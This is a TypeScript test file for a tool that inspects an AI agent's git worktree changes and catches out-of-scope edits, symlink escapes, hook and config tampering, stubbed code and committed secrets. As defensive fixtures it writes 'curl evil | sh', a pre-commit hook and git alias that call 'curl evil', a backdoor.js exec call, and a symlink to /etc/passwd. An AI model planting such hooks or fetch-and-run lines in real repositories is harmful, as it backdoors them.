import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  holdBackSecrets,
  inspectChanges,
  inspectStep,
  listChangedPaths,
  mergeBaseOf,
  restoreOutside,
  revertChanges,
  scanChangedFilesForStubs,
  takeRepoSnapshot,
  untrackedFilesOf,
  diffFromBaseOf,
  changeFromBaseOf,
  type ChangeViolation,
  type InspectionReport,
} from '../../src/activities/change-inspection';
import { ensureWorktree } from '../../src/activities/worktree';
import { changesAgainstBase } from '../../src/activities/git';
import { processTally, tallySince } from '../../src/activities/process-tally';
import type { RepoSnapshot } from '../../src/activities/change-inspection';
import { createSampleRepo } from '../../src/client/sample-repo';
import { FAKE_AWS_KEY_ID, FAKE_PRIVATE_KEY_BLOCK, stringsWithCredentials } from '../helpers/fake-credentials';

const ID = ['-c', 'user.name=Agent', '-c', 'user.email=agent@localhost', '-c', 'commit.gpgsign=false'];
function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', [...ID, ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
}

interface Setup {
  readonly repo: string;
  readonly worktree: string;
  readonly base: string;
  readonly root: string;
}

const roots: string[] = [];
afterAll(() => {
  for (const r of roots) rmSync(r, { recursive: true, force: true });
});

/** A sample repo (branch main) and a Warden worktree of it on warden/<id>. */
async function setup(id = 'inspect'): Promise<Setup> {
  const root = mkdtempSync(path.join(tmpdir(), 'warden-inspect-'));
  roots.push(root);
  const repo = createSampleRepo(path.join(root, 'repo'));
  const { worktreePath, head } = await ensureWorktree({ repoPath: repo, baseBranch: 'main', intentId: id, worktreeRoot: path.join(root, 'worktrees') });
  return { repo, worktree: worktreePath, base: head, root };
}

function write(dir: string, rel: string, content: string): void {
  mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
  writeFileSync(path.join(dir, rel), content);
}

/**
 * A snapshot of the target repo, taken for the worktree once its folders, index and ignore files
 * are old enough for their stat data to prove nothing changed (see repo-listing.ts): ignored
 * files in `build/`, an ignored `node_modules/`, an empty folder. Waits for that by taking it
 * again until it holds the proof.
 */
async function settledSnapshot(s: Setup): Promise<RepoSnapshot> {
  write(s.repo, '.gitignore', 'build/*.log\nnode_modules/\n');
  write(s.repo, 'build/out.log', 'x\n');
  write(s.repo, 'node_modules/pkg/index.js', '1;\n');
  mkdirSync(path.join(s.repo, 'empty'));
  for (;;) {
    const snapshot = await takeRepoSnapshot(s.repo, { worktree: s.worktree });
    if (snapshot.listing?.proof) return snapshot;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

function kinds(report: InspectionReport): string[] {
  return report.violations.map((v) => `${v.kind} ${v.path}`).sort();
}

function find(report: InspectionReport, kind: ChangeViolation['kind'], p: string): ChangeViolation | undefined {
  return report.violations.find((v) => v.kind === kind && v.path === p);
}

describe('declared paths', () => {
  test('changes inside the declared globs, committed, staged, unstaged and untracked, are clean', async () => {
    const s = await setup();
    write(s.worktree, 'lib/strings.js', 'module.exports = {};\n');
    git(s.worktree, 'commit', '-qam', 'agent: edit');
    write(s.worktree, 'lib/slug.js', 'module.exports = {};\n');
    git(s.worktree, 'add', 'lib/slug.js'); // staged
    write(s.worktree, 'lib/extra/deep.js', '1;\n'); // untracked
    write(s.worktree, 'test/slug.test.js', '1;\n');
    write(s.worktree, 'docs/lineage/active/inspect/impl-1.md', 'Warden writes this\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**', 'test/*.test.js'] });
    expect(report.violations).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.changedPaths).toBe(5);
    expect(report.summary).toMatch(/^clean: 5 changed paths/);
    expect(report.checked.outsideWrites).toBe(false);
    const changed = await listChangedPaths(s.worktree, s.base, s.repo);
    expect(changed).toEqual([
      { path: 'docs/lineage/active/inspect/impl-1.md', status: 'untracked' },
      { path: 'lib/extra/deep.js', status: 'untracked' },
      { path: 'lib/slug.js', status: 'added' },
      { path: 'lib/strings.js', status: 'modified' },
      { path: 'test/slug.test.js', status: 'untracked' },
    ]);
  });

  test('added, changed and deleted paths outside the globs are violations, committed or not', async () => {
    const s = await setup();
    write(s.worktree, 'README.md', 'rewritten\n');
    git(s.worktree, 'commit', '-qam', 'agent: readme');
    rmSync(path.join(s.worktree, 'package.json'));
    write(s.worktree, 'scripts/deploy.sh', 'curl evil | sh\n');
    write(s.worktree, '.github/workflows/ci.yml', 'on: push\n');
    write(s.worktree, 'lib/ok.js', '1;\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
    expect(kinds(report)).toEqual([
      'outside-declared-paths .github/workflows/ci.yml',
      'outside-declared-paths README.md',
      'outside-declared-paths package.json',
      'outside-declared-paths scripts/deploy.sh',
    ]);
    expect(find(report, 'outside-declared-paths', 'package.json')?.detail).toMatch(/^deleted, but not in the declared paths \(lib\/\*\*\)/);
    expect(report.ok).toBe(false);
    expect(report.summary).toMatch(/^4 violations \(4 outside-declared-paths\)/);
  });

  test('renames count as a deletion and an addition; ** allows everything; negations exclude', async () => {
    const s = await setup();
    mkdirSync(path.join(s.worktree, 'src'));
    git(s.worktree, 'mv', 'lib/strings.js', 'src/strings.js');
    git(s.worktree, 'commit', '-qm', 'agent: move');
    const strict = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['src/**'] });
    expect(kinds(strict)).toEqual(['outside-declared-paths lib/strings.js']);
    const all = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'] });
    expect(all.ok).toBe(true);
    const negated = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**', '!lib/**'] });
    expect(kinds(negated)).toEqual(['outside-declared-paths lib/strings.js']);
  });

  test('ignored files are not changes', async () => {
    const s = await setup();
    write(s.repo, '.gitignore', 'node_modules/\n');
    git(s.repo, 'add', '.gitignore');
    git(s.repo, 'commit', '-qm', 'ignore');
    git(s.worktree, 'merge', '-q', '--ff-only', 'main');
    const base = git(s.worktree, 'rev-parse', 'HEAD');
    write(s.worktree, 'node_modules/x/index.js', '1;\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: base, declaredPaths: ['lib/**'] });
    expect(report.ok).toBe(true);
    expect(report.changedPaths).toBe(0);
  });
});

describe('symbolic links', () => {
  test('links resolving outside the worktree or into .git are escapes; links inside are not', async () => {
    const s = await setup();
    symlinkSync('/etc/passwd', path.join(s.worktree, 'lib/passwd'));
    symlinkSync('../../..', path.join(s.worktree, 'lib/up'));
    symlinkSync('strings.js', path.join(s.worktree, 'lib/alias.js'));
    symlinkSync('../.git', path.join(s.worktree, 'lib/gitlink'));
    symlinkSync('/nonexistent/dangling', path.join(s.worktree, 'lib/dangling'));
    git(s.worktree, 'add', 'lib/up');
    git(s.worktree, 'commit', '-qm', 'agent: committed link');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
    expect(kinds(report)).toEqual([
      'symlink-escape lib/dangling',
      'symlink-escape lib/gitlink',
      'symlink-escape lib/passwd',
      'symlink-escape lib/up',
    ]);
    expect(find(report, 'symlink-escape', 'lib/passwd')?.detail).toBe('symbolic link to /etc/passwd, outside the worktree');
    expect(find(report, 'symlink-escape', 'lib/gitlink')?.detail).toMatch(/inside the worktree's \.git/);
  });

  test('a folder replaced by a link to the outside', async () => {
    const s = await setup();
    rmSync(path.join(s.worktree, 'lib'), { recursive: true });
    symlinkSync(s.repo, path.join(s.worktree, 'lib'));
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**', 'lib'] });
    expect(kinds(report)).toEqual(['symlink-escape lib']);
  });
});

describe('git itself', () => {
  test('a .git file pointed elsewhere is reported, and the inspection still sees the real changes', async () => {
    const s = await setup();
    const other = createSampleRepo(path.join(s.root, 'decoy'));
    write(s.worktree, 'README.md', 'sneaky\n');
    writeFileSync(path.join(s.worktree, '.git'), `gitdir: ${path.join(other, '.git')}\n`);
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
    expect(kinds(report)).toEqual(['git-dir-changed .git', 'outside-declared-paths README.md']);
    expect(find(report, 'git-dir-changed', '.git')?.detail).toMatch(/points elsewhere/);

    await revertChanges(s.worktree, s.base, { repoPath: s.repo });
    expect(readFileSync(path.join(s.worktree, '.git'), 'utf8')).toMatch(/worktrees\/inspect/);
    expect(git(s.worktree, 'status', '--porcelain')).toBe('');
    expect((await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] })).ok).toBe(true);
  });

  test('a detached HEAD, a rewritten history, and commits pushed to the base branch', async () => {
    const s = await setup();
    write(s.worktree, 'lib/a.js', '1;\n');
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'agent: a');
    const stepStart = git(s.worktree, 'rev-parse', 'HEAD');
    write(s.worktree, 'lib/b.js', '2;\n');
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'agent: b');
    git(s.worktree, 'update-ref', 'refs/heads/main', 'HEAD'); // bypasses the merge gate
    const leaked = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: stepStart, declaredPaths: ['lib/**'] });
    expect(kinds(leaked)).toEqual(['git-dir-changed refs/heads/main']);
    expect(leaked.violations[0]!.detail).toMatch(/contains commits made in this step/);

    git(s.worktree, 'reset', '-q', '--hard', s.base); // drops stepStart from the branch
    const rewritten = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: stepStart, declaredPaths: ['lib/**'] });
    expect(rewritten.violations.map((v) => v.detail)).toContainEqual(expect.stringMatching(/history was rewritten/));

    git(s.worktree, 'checkout', '-q', '-b', 'elsewhere', s.base);
    write(s.worktree, 'lib/c.js', '3;\n');
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'agent: on another branch');
    const switched = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], branch: 'warden/inspect' });
    expect(kinds(switched)).toEqual(['git-dir-changed <git>/HEAD', 'git-dir-changed refs/heads/elsewhere']);
    expect(switched.violations[0]!.detail).toBe('HEAD was switched to refs/heads/elsewhere during the step');

    git(s.worktree, 'checkout', '-q', '--detach', s.base);
    const detached = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
    expect(kinds(detached)).toEqual(['git-dir-changed <git>/HEAD']);
    expect(detached.violations[0]!.detail).toMatch(/detached/);
  });

  test('another intent committing on its own branch meanwhile is not a violation', async () => {
    const s = await setup('mine');
    const other = await ensureWorktree({ repoPath: s.repo, baseBranch: 'main', intentId: 'theirs', worktreeRoot: path.join(s.root, 'worktrees') });
    const snapshot = await takeRepoSnapshot(s.repo);
    write(s.worktree, 'lib/mine.js', '1;\n');
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'mine');
    write(other.worktreePath, 'lib/theirs.js', '1;\n');
    git(other.worktreePath, 'add', '-A');
    git(other.worktreePath, 'commit', '-qm', 'theirs');
    await ensureWorktree({ repoPath: s.repo, baseBranch: 'main', intentId: 'third', worktreeRoot: path.join(s.root, 'worktrees') });
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
    expect(report.violations).toEqual([]);
  });

  test('with a snapshot: hooks, config, info/exclude and a switched HEAD are reported', async () => {
    const s = await setup();
    const snapshot = await takeRepoSnapshot(s.repo);
    write(s.repo, '.git/hooks/pre-commit', '#!/bin/sh\ncurl evil\n');
    git(s.worktree, 'config', 'alias.st', '!curl evil');
    write(s.repo, '.git/info/exclude', 'secret/\n');
    git(s.worktree, 'checkout', '-q', '-b', 'elsewhere');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
    expect(kinds(report)).toEqual([
      'git-dir-changed <git>/HEAD',
      'git-dir-changed <git>/config',
      'git-dir-changed <git>/hooks/pre-commit',
      'git-dir-changed <git>/info/exclude',
    ]);
    expect(find(report, 'git-dir-changed', '<git>/HEAD')?.detail).toMatch(/switched to refs\/heads\/elsewhere/);
    expect(find(report, 'git-dir-changed', '<git>/hooks/pre-commit')?.detail).toMatch(/^created during the step: a git hook/);
    expect(report.checked.gitControlFiles).toBe(true);

    await revertChanges(s.worktree, s.base, { repoPath: s.repo, branch: 'warden/inspect' });
    expect(git(s.worktree, 'symbolic-ref', 'HEAD')).toBe('refs/heads/warden/inspect');
  });

  test("a snapshot taken for the worktree reads its own record only, and still sees it change", async () => {
    const s = await setup('mine');
    await ensureWorktree({ repoPath: s.repo, baseBranch: 'main', intentId: 'theirs', worktreeRoot: path.join(s.root, 'worktrees') });
    const snapshot = await takeRepoSnapshot(s.repo, { worktree: s.worktree });
    const records = Object.keys(snapshot.gitControl).filter((name) => name.startsWith('worktrees/'));
    expect(records.length).toBeGreaterThan(0);
    expect(records.every((name) => name.startsWith(`${snapshot.ownRecord}/`))).toBe(true);
    expect(Object.keys((await takeRepoSnapshot(s.repo)).gitControl).filter((name) => name.startsWith('worktrees/')).length).toBeGreaterThan(records.length);
    git(s.worktree, 'checkout', '-q', '-b', 'elsewhere');
    write(path.join(s.repo, '.git', snapshot.ownRecord!), 'config.worktree', '[core]\n\thooksPath = /tmp/evil\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
    expect(kinds(report)).toEqual(['git-dir-changed <git>/HEAD', `git-dir-changed <git>/${snapshot.ownRecord}/config.worktree`]);
  });

  test('a nested repository is reported', async () => {
    const s = await setup();
    mkdirSync(path.join(s.worktree, 'lib/vendor'));
    git(path.join(s.worktree, 'lib/vendor'), 'init', '-q');
    write(s.worktree, 'lib/vendor/x.js', '1;\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
    expect(kinds(report)).toEqual(['git-dir-changed lib/vendor/']);
    await revertChanges(s.worktree, s.base);
    expect(existsSync(path.join(s.worktree, 'lib/vendor'))).toBe(false);
  });
});

describe('writes outside the worktree', () => {
  test('a bare repository has no working tree to list, and its control files are still read', async () => {
    const s = await setup();
    const bare = path.join(s.root, 'bare.git');
    git(s.root, 'clone', '-q', '--bare', s.repo, bare);
    const snapshot = await takeRepoSnapshot(bare);
    expect(snapshot.files).toEqual({});
    expect(Object.keys(snapshot.gitControl)).toEqual(expect.arrayContaining(['config', 'HEAD']));
    await expect(takeRepoSnapshot(s.root)).rejects.toMatchObject({ type: 'GIT_FAILED', message: expect.stringMatching(/is not a git repository/) });
  });

  test("creating, changing and deleting files of the target repo's own working tree", async () => {
    const s = await setup();
    write(s.repo, 'notes.txt', 'untracked before the step\n');
    const snapshot = await takeRepoSnapshot(s.repo);
    expect(Object.keys(snapshot.files)).toEqual(expect.arrayContaining(['README.md', 'lib/strings.js', 'notes.txt']));
    expect(Object.keys(snapshot.files).some((f) => f.startsWith('.git/'))).toBe(false);
    write(s.repo, 'lib/strings.js', 'module.exports = { evil: true };\n');
    write(s.repo, 'backdoor.js', 'require("child_process").exec("curl evil")\n');
    rmSync(path.join(s.repo, 'notes.txt'));
    const future = new Date(Date.now() + 60_000);
    utimesSync(path.join(s.repo, 'README.md'), future, future); // touched, same content: not a write
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'], repoSnapshot: snapshot });
    expect(kinds(report)).toEqual([
      'outside-worktree-write backdoor.js',
      'outside-worktree-write lib/strings.js',
      'outside-worktree-write notes.txt',
    ]);
    expect(find(report, 'outside-worktree-write', 'backdoor.js')?.detail).toMatch(/^created in the target repository's working tree/);
    expect(find(report, 'outside-worktree-write', 'notes.txt')?.detail).toMatch(/^deleted/);
    expect(report.checked.outsideWrites).toBe(true);
  });

  test('a step that stays in the worktree leaves the repo snapshot unchanged', async () => {
    const s = await setup();
    const snapshot = await takeRepoSnapshot(s.repo);
    write(s.worktree, 'lib/strings.js', 'module.exports = {};\n');
    git(s.worktree, 'commit', '-qam', 'agent');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
    expect(report.violations).toEqual([]);
    expect(report.changedPaths).toBe(1);
  });

  // How long they take is measured by bench/change-inspection.ts (about 0.7 s here on an idle machine).
  test('a few thousand files: snapshot and inspection find what changed, and the write outside', async () => {
    const s = await setup();
    for (let d = 0; d < 30; d++) {
      for (let f = 0; f < 100; f++) write(s.repo, `data/d${d}/f${f}.txt`, `${d}-${f}\n`.repeat(20));
    }
    git(s.repo, 'add', '-A');
    git(s.repo, 'commit', '-qm', 'many files');
    git(s.worktree, 'merge', '-q', '--ff-only', 'main');
    const base = git(s.worktree, 'rev-parse', 'HEAD');
    const snapshot = await takeRepoSnapshot(s.repo);
    expect(Object.keys(snapshot.files).length).toBeGreaterThan(3000);
    for (let f = 0; f < 200; f++) write(s.worktree, `data/d1/f${f}.txt`, 'changed\n');
    write(s.repo, 'data/d7/f7.txt', 'outside\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: base, declaredPaths: ['data/d1/**'], repoSnapshot: snapshot });
    expect(kinds(report)).toEqual(['outside-worktree-write data/d7/f7.txt']);
    expect(report.changedPaths).toBe(200);
  });

  test('the report is capped', async () => {
    const s = await setup();
    for (let f = 0; f < 150; f++) write(s.worktree, `junk/${f}.txt`, 'x\n');
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'] });
    expect(report.violations).toHaveLength(100);
    expect(report.omittedViolations).toBe(50);
    expect(report.changedPaths).toBe(150);
  });
});

describe('revertChanges and bad input', () => {
  test('puts the worktree back to the start commit: commits, edits, untracked files and links', async () => {
    const s = await setup();
    write(s.worktree, 'README.md', 'x\n');
    git(s.worktree, 'commit', '-qam', 'agent');
    write(s.worktree, 'lib/strings.js', 'y\n');
    write(s.worktree, 'new/file.js', 'z\n');
    symlinkSync('/etc', path.join(s.worktree, 'etc'));
    await revertChanges(s.worktree, s.base);
    expect(git(s.worktree, 'rev-parse', 'HEAD')).toBe(s.base);
    expect(await listChangedPaths(s.worktree, s.base)).toEqual([]);
    expect(existsSync(path.join(s.worktree, 'etc'))).toBe(false);
  });

  test('an unknown worktree or start commit is a clear non-retryable error', async () => {
    const s = await setup();
    const stranger = createSampleRepo(path.join(s.root, 'stranger'));
    await expect(inspectChanges({ worktreePath: stranger, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'] })).rejects.toMatchObject({
      message: expect.stringMatching(/is not a worktree of/),
      nonRetryable: true,
    });
    await expect(inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: 'deadbeef', declaredPaths: ['**'] })).rejects.toThrow(/deadbeef is not a commit/);
  });
});

describe('scanChangedFilesForStubs', () => {
  test('only stubs the intent added, in changed TypeScript/JavaScript/Python files, committed or not', async () => {
    const root = mkdtempSync(path.join(tmpdir(), 'warden-inspect-'));
    roots.push(root);
    const repo = createSampleRepo(path.join(root, 'repo'));
    write(repo, 'lib/legacy.js', '// TODO: old debt, not the agent\'s\nfunction legacy(x) { return x; }\nmodule.exports = { legacy };\n');
    write(repo, 'lib/gone.py', 'def f(x):\n    pass\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'legacy');
    const { worktreePath: wt } = await ensureWorktree({ repoPath: repo, baseBranch: 'main', intentId: 'stubs', worktreeRoot: path.join(root, 'wt') });
    write(wt, 'lib/legacy.js', '// TODO: old debt, not the agent\'s\nfunction legacy(x) { return x; }\nfunction slugify(text) {}\nmodule.exports = { legacy, slugify };\n');
    git(wt, 'commit', '-qam', 'agent: slugify');
    rmSync(path.join(wt, 'lib/gone.py'));
    write(wt, 'lib/rate.py', 'def allow(key):\n    raise NotImplementedError\n');
    write(wt, 'docs/lineage/active/stubs/impl-1.ts', 'export function x(a: number) {}\n');
    write(wt, 'NOTES.md', 'TODO\n');
    // the base branch moves on meanwhile: its stubs are not the intent's
    write(repo, 'lib/other.js', 'function other(x) {}\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'someone else');
    const findings = await scanChangedFilesForStubs({ worktreePath: wt, baseRef: 'refs/heads/main', repoPath: repo });
    expect(findings.map((f) => `${f.path}:${f.line} ${f.kind}`)).toEqual(['lib/legacy.js:3 empty-body', 'lib/rate.py:2 not-implemented']);
    // the merge base found once (mergeBaseOf) and handed in: the same findings, no merge-base of its own
    const mergeBase = await mergeBaseOf({ worktreePath: wt, baseRef: 'refs/heads/main', repoPath: repo });
    expect(mergeBase).toBe(git(wt, 'merge-base', 'HEAD', 'refs/heads/main'));
    const before = processTally();
    expect(await scanChangedFilesForStubs({ worktreePath: wt, baseRef: 'refs/heads/main', repoPath: repo, mergeBase })).toEqual(findings);
    expect(tallySince(before).launched.git).toBe(3); // the diff, the untracked files, lib/legacy.js at the base
    // the untracked files listed once (untrackedFilesOf) and handed in as well: no listing of its own
    const untracked = await untrackedFilesOf({ worktreePath: wt, repoPath: repo });
    expect(untracked).toEqual(['NOTES.md', 'docs/lineage/active/stubs/impl-1.ts', 'lib/rate.py']);
    const known = processTally();
    expect(await scanChangedFilesForStubs({ worktreePath: wt, baseRef: 'refs/heads/main', repoPath: repo, mergeBase, untracked })).toEqual(findings);
    expect(tallySince(known).launched.git).toBe(2);
    // and the diff from the merge base (diffFromBaseOf, renames found) too: only lib/legacy.js at the base
    const diff = await diffFromBaseOf({ worktreePath: wt, repoPath: repo, base: mergeBase });
    const withDiff = processTally();
    expect(await scanChangedFilesForStubs({ worktreePath: wt, baseRef: 'refs/heads/main', repoPath: repo, mergeBase, untracked, diff })).toEqual(findings);
    expect(tallySince(withDiff).launched.git).toBe(1);
    await expect(mergeBaseOf({ worktreePath: wt, baseRef: 'refs/heads/nowhere', repoPath: repo })).rejects.toMatchObject({ type: 'GIT_FAILED', nonRetryable: true });
  });
});

describe('changeFromBaseOf', () => {
  test('the untracked files, the diff from the base and, once all is committed, the change\'s size: what three git processes said, from two', async () => {
    const s = await setup('from-base');
    const base = s.base;
    write(s.worktree, 'lib/strings.js', 'module.exports = { changed: true };\n');
    write(s.worktree, 'lib/new.js', 'one;\ntwo;\n');
    write(s.worktree, 'docs/lineage/active/from-base/04-impl-attempt-1.md', 'lineage\n');
    rmSync(path.join(s.worktree, 'README.md'));
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'impl');
    write(s.worktree, 'notes/untracked.md', 'x\n');
    const separately = async () => ({
      untracked: await untrackedFilesOf({ worktreePath: s.worktree, repoPath: s.repo }),
      diff: await diffFromBaseOf({ worktreePath: s.worktree, repoPath: s.repo, base }),
      committed: await changesAgainstBase(s.worktree, 'main', base),
    });
    const expected = await separately();
    const before = processTally();
    const seen = await changeFromBaseOf({ worktreePath: s.worktree, repoPath: s.repo, base });
    expect(tallySince(before).launched.git).toBe(2);
    expect(seen).toEqual(expected);
    expect(seen.committed?.map((c) => c.path)).toEqual(['README.md', 'lib/new.js', 'lib/strings.js']);

    // A tracked file changed since the commit: the size is the caller's to ask.
    write(s.worktree, 'lib/new.js', 'one;\n');
    const dirty = await changeFromBaseOf({ worktreePath: s.worktree, repoPath: s.repo, base });
    expect(dirty.committed).toBeUndefined();
    expect(dirty.diff).toEqual((await separately()).diff);
    git(s.worktree, 'checkout', '--', 'lib/new.js');

    // A rename: the same.
    git(s.worktree, 'mv', 'package.json', 'package.renamed.json');
    git(s.worktree, 'commit', '-qm', 'rename');
    const renamed = await changeFromBaseOf({ worktreePath: s.worktree, repoPath: s.repo, base });
    expect(renamed.committed).toBeUndefined();
    expect(renamed.diff).toEqual((await separately()).diff);
  });
});

describe('scanChangedFilesForStubs, several changed files', () => {
  test('reads every changed file at the base from one git process', async () => {
    const s = await setup('stubs-many');
    for (const name of ['a', 'b', 'c']) write(s.repo, `lib/${name}.js`, `function ${name}(x) { return x; }\nmodule.exports = { ${name} };\n`);
    git(s.repo, 'add', '-A');
    git(s.repo, 'commit', '-qm', 'three files');
    git(s.worktree, 'merge', '-q', '--ff-only', 'main');
    for (const name of ['a', 'b', 'c']) write(s.worktree, `lib/${name}.js`, `function ${name}(x) { return x; }\nfunction ${name}2(y) {}\nmodule.exports = { ${name}, ${name}2 };\n`);
    const mergeBase = await mergeBaseOf({ worktreePath: s.worktree, baseRef: 'refs/heads/main', repoPath: s.repo });
    const untracked = await untrackedFilesOf({ worktreePath: s.worktree, repoPath: s.repo });
    const diff = await diffFromBaseOf({ worktreePath: s.worktree, repoPath: s.repo, base: mergeBase });
    const before = processTally();
    const findings = await scanChangedFilesForStubs({ worktreePath: s.worktree, baseRef: 'refs/heads/main', repoPath: s.repo, mergeBase, untracked, diff });
    expect(tallySince(before).launched.git).toBe(1); // one a file before
    expect(findings.map((f) => `${f.path}:${f.line} ${f.kind}`)).toEqual(['lib/a.js:2 empty-body', 'lib/b.js:2 empty-body', 'lib/c.js:2 empty-body']);
  });
});

describe('the secret scan of a step\'s change (holdBackSecrets)', () => {
  test('a secret in a changed file and one in a new file are held back: the files are put back, the rest of the change stays', async () => {
    const s = await setup('secrets-held');
    const before = readFileSync(path.join(s.worktree, 'lib/strings.js'), 'utf8');
    write(s.worktree, 'lib/strings.js', stringsWithCredentials());
    write(s.worktree, 'keys/deploy.pem', FAKE_PRIVATE_KEY_BLOCK);
    write(s.worktree, 'lib/clean.js', 'module.exports = 1;\n');
    const scan = await holdBackSecrets({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, allowances: [] });
    expect(scan.allowed).toEqual([]);
    expect(scan.held).toEqual([
      { path: 'keys/deploy.pem', line: 1, rule: 'privatekey/PrivateKey' },
      { path: 'lib/strings.js', line: 2, rule: 'aws/AWSAccessKeyID' },
      { path: 'lib/strings.js', line: 4, rule: 'privatekey/PrivateKey' },
    ]);
    expect(readFileSync(path.join(s.worktree, 'lib/strings.js'), 'utf8')).toBe(before);
    expect(existsSync(path.join(s.worktree, 'keys/deploy.pem'))).toBe(false);
    expect(readFileSync(path.join(s.worktree, 'lib/clean.js'), 'utf8')).toBe('module.exports = 1;\n');
  });

  test("after an inspection, the scan uses what it saw: the same findings, three git processes fewer", async () => {
    const s = await setup('secrets-inspected');
    write(s.worktree, 'keys/deploy.pem', FAKE_PRIVATE_KEY_BLOCK);
    write(s.worktree, 'lib/strings.js', stringsWithCredentials());
    git(s.worktree, 'add', 'lib/strings.js');
    git(s.worktree, 'commit', '-qm', 'agent: strings');
    const { report, seen } = await inspectStep({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'] });
    expect(report.ok).toBe(true);
    expect(seen.changes.map((c) => c.path)).toEqual(['keys/deploy.pem', 'lib/strings.js']);
    const before = processTally();
    const scan = await holdBackSecrets({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, allowances: [{ paths: ['**'], reason: 'fixtures' }], inspected: seen });
    const withSeen = tallySince(before).launched.git ?? 0;
    const again = processTally();
    const plain = await holdBackSecrets({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, allowances: [{ paths: ['**'], reason: 'fixtures' }] });
    expect(scan).toEqual(plain);
    expect(scan.allowed.map((f) => f.path)).toEqual(expect.arrayContaining(['keys/deploy.pem', 'lib/strings.js']));
    expect(withSeen).toBe((tallySince(again).launched.git ?? 0) - 3);
  });

  test('a secret the step committed itself, even one deleted again, is held back and its commits undone', async () => {
    const s = await setup('secrets-committed');
    // A name git would quote in a listing: it is read as it is.
    write(s.worktree, 'lib/my "token".js', `module.exports = '${FAKE_AWS_KEY_ID}';\n`);
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'agent: add the key');
    git(s.worktree, 'rm', '-q', 'lib/my "token".js');
    write(s.worktree, 'lib/clean.js', 'module.exports = 2;\n');
    git(s.worktree, 'add', '-A');
    git(s.worktree, 'commit', '-qm', 'agent: remove it again');
    const scan = await holdBackSecrets({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, allowances: [] });
    expect(scan.held).toEqual([{ path: 'lib/my "token".js', line: 1, rule: 'aws/AWSAccessKeyID' }]);
    expect(git(s.worktree, 'rev-parse', 'HEAD')).toBe(s.base);
    expect(git(s.worktree, 'log', '--all', '--format=%s')).not.toContain('agent: add the key');
    expect(readFileSync(path.join(s.worktree, 'lib/clean.js'), 'utf8')).toBe('module.exports = 2;\n');
  });

  test('an allowed path keeps its file, and says which allowance let it in', async () => {
    const s = await setup('secrets-allowed');
    write(s.worktree, 'test/fixtures/deploy.pem', FAKE_PRIVATE_KEY_BLOCK);
    const scan = await holdBackSecrets({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, allowances: [{ paths: ['test/fixtures/**'], reason: 'parser fixtures' }] });
    expect(scan).toEqual({ held: [], allowed: [{ path: 'test/fixtures/deploy.pem', line: 1, rule: 'privatekey/PrivateKey', reason: 'parser fixtures' }] });
    expect(existsSync(path.join(s.worktree, 'test/fixtures/deploy.pem'))).toBe(true);
  });

